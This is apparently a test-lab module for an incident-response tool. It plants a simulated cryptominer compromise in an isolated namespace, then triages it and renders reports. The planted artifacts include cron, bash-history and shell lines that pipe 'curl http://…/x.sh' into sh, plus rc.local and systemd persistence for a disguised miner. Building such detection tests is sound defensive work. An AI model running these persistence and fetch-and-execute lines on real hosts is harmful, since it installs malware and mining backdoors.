"""One whole incident, planted in a room and examined with the whole pack: `python -m tests.lab.incident FOLDER`.

Writes the report of it to FOLDER in every form and language, and pictures of it where Chromium is installed; those in the
README, tests/lab/report_*.png, are made so.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import tempfile
import time
import traceback
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from extension.plan import make_plan
from extension.report import html as html_report
from extension.report import json as json_report
from extension.report import markdown as markdown_report
from extension.report import text as text_report
from extension.report.facts import Facts, collect
from extension.report.saved import triage_from
from extension.report.words import LANGUAGES
from extension.triage import Triage, run_triage
from tests.lab.cases_accounts import second_root, worm_key
from tests.lab.cases_connections import configuration
from tests.lab.cases_logins import accepted, guessing, keep, log
from tests.lab.enter import REPOSITORY, build_root
from tests.lab.experiment import PACK
from tests.lab.namespaces import bring_up_loopback, end_with_parent, mount
from tests.lab.room import CONTROL_SERVER, LISTED_POOL, POOL, Room
from tests.lab.wallets import XMR
from tests.support.chromium import Chromium, find_chromium

_MS_MOVE = 8192
_MODULE = "tests.lab.incident"
_TIMEOUT = 600


def plant(room: Room) -> None:
    """A guessed password, a download, a miner and what brings it back."""
    now = time.time()
    keep(room, "/var/log/auth.log", log([*guessing("203.0.113.10"), accepted("203.0.113.10", "root")], ago=9000))
    room.write("/root/.bash_history", f"#{now - 8900:.0f}\ncurl -fsSL http://{CONTROL_SERVER[0]}/x.sh | bash\n", 0o600)
    room.write("/etc/rc.local", "#!/bin/sh\nnohup /var/tmp/.font/kswapd0 >/dev/null 2>&1 &\nexit 0\n", 0o755)
    room.write("/var/spool/cron/crontabs/root", f"*/5 * * * * curl -fsSL http://{CONTROL_SERVER[0]}/x.sh | sh\n", 0o600)
    room.write(
        "/etc/systemd/system/dbus-monitor.service",
        "[Service]\nExecStart=/var/tmp/.font/kswapd0\nRestart=always\n[Install]\nWantedBy=multi-user.target\n",
    )
    worm_key.plant(room)
    second_root.plant(room)
    pool = "{}:{}".format(*LISTED_POOL)
    room.write("/var/tmp/.font/config.json", configuration(pool, user=XMR))
    miner = room.program("/var/tmp/.font/kswapd0", is_busy=True)
    room.program("/dev/shm/.x")
    room.orphan("sh", room.write("/var/tmp/.font/guard.sh", "read hold\n", 0o755))
    room.connect(LISTED_POOL, miner, "-o", pool, "-u", XMR)
    room.listen("0.0.0.0", 5555, room.program("/tmp/sshd-agent"))
    hidden = room.connect(POOL, room.program("/usr/lib/.cache/udevd"))
    room.mount("none", f"/proc/{hidden}", "tmpfs", 0)
    script = "read hold; curl -fsSL http://203.0.113.9/x.sh | sh"
    room.start("sh", "-c", script, user=33, group=33, extra_groups=[])
    gone = room.program("/opt/run/worker")
    room.start("[kworker/u8:3]", executable=gone)
    os.unlink(gone)
    for path, ago in (("/etc/rc.local", 8700), ("/var/spool/cron/crontabs/root", 8640), ("/etc/passwd", 5000), (miner, 8820)):
        os.utime(path, (now - ago, now - ago))


@dataclass(frozen=True)
class Followed:
    """What came of following the plan: each command with its exit status and output, and how the host was before and after."""

    before: Triage
    after: Triage
    commands: list[tuple[str, int, str]]
    # What lies in the folder for evidence, by name, and what compare and watch said, with their exit statuses.
    evidence: dict[str, int]
    compared: tuple[int, str]
    watched: tuple[int, str]
    verified: tuple[int, str]


def examine() -> tuple[Triage, Facts]:
    """Plant the incident in a room of its own, as root, and run the pack there."""
    answer = _in_a_room("examine")
    facts = answer["facts"]
    triage = triage_from(answer["triage"], PACK)
    return triage, Facts(facts["host"], tuple(facts["indicators"]), tuple(facts["known_good"]))


def follow() -> Followed:
    """Plant the incident, do line by line what the plan says, and look again."""
    answer = _in_a_room("follow")
    return Followed(
        triage_from(answer["before"], PACK),
        triage_from(answer["after"], PACK),
        [tuple(one) for one in answer["commands"]],
        answer["evidence"],
        tuple(answer["compared"]),
        tuple(answer["watched"]),
        tuple(answer["verified"]),
    )


def _in_a_room(what: str) -> dict[str, Any]:
    flags = ["--mount", "--propagation", "private", "--net", "--uts", "--pid", "--fork", "--kill-child"]
    environment = {**os.environ, "PYTHONPATH": str(REPOSITORY), "PYTHONDONTWRITEBYTECODE": "1"}
    with tempfile.TemporaryDirectory(prefix="minehunt-lab-") as folder:
        command = ["unshare", *flags, sys.executable, "-m", _MODULE, "--enter", folder, what]
        done = subprocess.run(
            command, cwd=REPOSITORY, env=environment, capture_output=True, text=True, timeout=_TIMEOUT, stdin=subprocess.DEVNULL
        )
    for line in done.stdout.splitlines():
        if line.startswith("ANSWER "):
            answer: dict[str, Any] = json.loads(line[len("ANSWER ") :])
            return answer
    raise RuntimeError(f"no answer (exit {done.returncode})\n{done.stdout}{done.stderr}")


def _enter(folder: str, what: str) -> None:
    socket.sethostname("web-03")
    os.chdir(build_root(folder))
    mount(".", "/", flags=_MS_MOVE)
    os.chroot(".")
    os.chdir("/")
    os.execv(sys.executable, [sys.executable, "-m", _MODULE, "--inside", what])


def _examined(room: Room) -> dict[str, Any]:
    triage = run_triage(PACK, room.engine)
    return {"triage": json_report.as_document(triage), "facts": vars(collect(room.engine))}


def _followed(room: Room) -> dict[str, Any]:
    """Type the plan's commands into one shell, as a responder would, but for what asks for a new password."""
    report = Path("/root/report.json")
    before = run_triage(PACK, room.engine)
    report.write_text(json_report.render(before))
    plan = make_plan(before.incidents, before.host["hostname"], before.finished, "en", str(report))
    # New passwords are asked for, and a quarter of an hour is too long.
    left_out = ("passwd root", "passwd sysbak", "minehunt watch")
    typed = [step.command for step in plan.steps if step.command and not step.command.startswith(left_out)]
    options = "--engine embedded --indicators /etc/lab-pools.txt"
    own = f'[ $command = compare ] || set -- {options} "$@"; {sys.executable} -m extension $command "$@"'
    lines = [f"minehunt() {{ command=$1; shift; {own}; }}"]
    for number, command in enumerate(typed):
        lines += [f"echo BEGIN {number}", f"{{ {command}\n}} </dev/null 2>&1", f"status=$?; echo; echo END {number} $status"]
    lines += ['echo CASE "$CASE"', 'minehunt collect --verify "$CASE/evidence.tar.gz" 2>&1; echo VERIFIED $?']
    environment = {**os.environ, "PYTHONPATH": str(REPOSITORY)}
    done = subprocess.run(["sh"], input="\n".join(lines), capture_output=True, text=True, env=environment, cwd="/root")
    commands = []
    for number, command in enumerate(typed):
        text = done.stdout.partition(f"BEGIN {number}\n")[2]
        output, _, rest = text.partition(f"\nEND {number} ")
        commands.append((command, int(rest.split()[0]), output[-2000:]))
    case = Path(done.stdout.partition("\nCASE ")[2].split("\n")[0])
    verified = done.stdout.partition("\nCASE ")[2].partition("\n")[2].partition("VERIFIED ")
    evidence = {str(path.relative_to(case)): path.stat().st_size for path in case.rglob("*") if path.is_file()}
    after = json.loads((case / "after.json").read_text())
    (compared,) = [(status, output) for command, status, output in commands if command.startswith("minehunt compare")]
    watch = [sys.executable, "-m", "extension", "watch", "--for", "4s", "--every", "1s", "--indicators", "/etc/lab-pools.txt"]
    watched = subprocess.run([*watch, "--lang", "en"], capture_output=True, text=True, env=environment, cwd="/root")
    return {
        "before": json_report.as_document(before),
        "after": after,
        "commands": commands,
        "evidence": evidence,
        "compared": compared,
        "watched": (watched.returncode, watched.stdout),
        "verified": (int(verified[2].split()[0]), verified[0]),
    }


def _inside(what: str) -> int:
    """Be init: plant and ask in a child, and reap what is orphaned meanwhile."""
    worker = os.fork()
    if worker == 0:
        end_with_parent()
        try:
            bring_up_loopback(POOL[0], LISTED_POOL[0], CONTROL_SERVER[0])
            Path("/etc/lab-pools.txt").write_text("{}:{}\n".format(*POOL))
            room = Room()
            plant(room)
            answer = {"examine": _examined, "follow": _followed}[what](room)
            room.clear()
            print("ANSWER " + json.dumps(answer), flush=True)
        except BaseException:
            traceback.print_exc()
            os._exit(1)
        os._exit(0)
    while True:
        pid, status = os.wait()
        if pid == worker:
            return os.waitstatus_to_exitcode(status)


# What of the page is in which picture: from one element to another.
_PICTURES = {"": ("html", ".board"), "_tree": ("#suspects", "svg.timeline")}


def main(folder: str) -> int:
    """Write the reports of the incident and their pictures; print their paths."""
    triage, facts = examine()
    target = Path(folder)
    target.mkdir(parents=True, exist_ok=True)
    (target / "report.json").write_text(json_report.render(triage))
    for language in LANGUAGES:
        (target / f"report_{language}.html").write_text(html_report.render(triage, facts, language))
        (target / f"report_{language}.md").write_text(markdown_report.render(triage, facts, language))
        (target / f"report_{language}.txt").write_text(text_report.render(triage, language))
    if find_chromium():
        with Chromium() as browser:
            for language in LANGUAGES:
                browser.open((target / f"report_{language}.html").resolve().as_uri())
                (target / f"report_{language}.pdf").write_bytes(browser.pdf())
                for name, (first, last) in _PICTURES.items():
                    (target / f"report_{language}{name}.png").write_bytes(browser.screenshot(first, last))
    print(*sorted(map(str, target.iterdir())), sep="\n")
    return 0


if __name__ == "__main__":
    if sys.argv[1] == "--enter":
        _enter(sys.argv[2], sys.argv[3])
    sys.exit(_inside(sys.argv[2]) if sys.argv[1] == "--inside" else main(sys.argv[1]))
